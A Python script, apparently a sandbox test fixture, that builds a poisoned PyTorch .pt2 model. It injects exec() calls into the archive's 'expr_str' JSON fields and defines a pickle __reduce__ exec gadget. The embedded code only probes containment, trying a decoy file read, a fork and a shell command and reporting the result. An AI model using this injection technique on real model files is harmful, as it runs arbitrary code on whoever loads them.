import json
import os
import zipfile

import torch
from torch import nn

model = nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
batch = torch.export.Dim("batch", min=1, max=100_000)
program = torch.export.export(model, (torch.zeros(2, 1, 28, 28),), dynamic_shapes=({0: batch},))
torch.export.save(program, "honest.pt2")


def rewritten(change):
    """The honest program with some of its entries changed."""
    with zipfile.ZipFile("honest.pt2") as good, zipfile.ZipFile("model.pt2", "w") as bad:
        changed = False
        for entry in good.infolist():
            content = good.read(entry)
            new = change(entry.filename, content)
            changed |= new != content
            bad.writestr(entry.filename, new)
    os.unlink("honest.pt2")
    assert changed, "nothing was changed"


# What the program runs if it is let: it says so and tries the same as any other code.
CODE = """
import os
print("TRIED code in a program", flush=True)
for what, act in (
    ("database from a program", lambda: open("@DECOYS@/shared.db", "rb").read()),
    ("fork from a program", lambda: os.waitpid(os.fork() or os._exit(0), 0)),
    ("command from a program", lambda: 1 / (os.system("true") == 0)),
):
    try:
        act()
        print("ESCAPED", what, flush=True)
    except BaseException as error:
        print("HELD", what, error, flush=True)
print("HELD code in a program: it ran inside", flush=True)
"""


class Evil:
    def __reduce__(self):
        return exec, (CODE,)


EXPRESSION = "__import__('builtins').exec(" + repr(CODE) + ")"


def spoilt(value):
    if isinstance(value, dict):
        return {key: EXPRESSION if key == "expr_str" else spoilt(inner) for key, inner in value.items()}
    if isinstance(value, list):
        return [spoilt(inner) for inner in value]
    return value


def change(name, content):
    if name.endswith(".json") and b"expr_str" in content:
        return json.dumps(spoilt(json.loads(content))).encode()
    return content


rewritten(change)
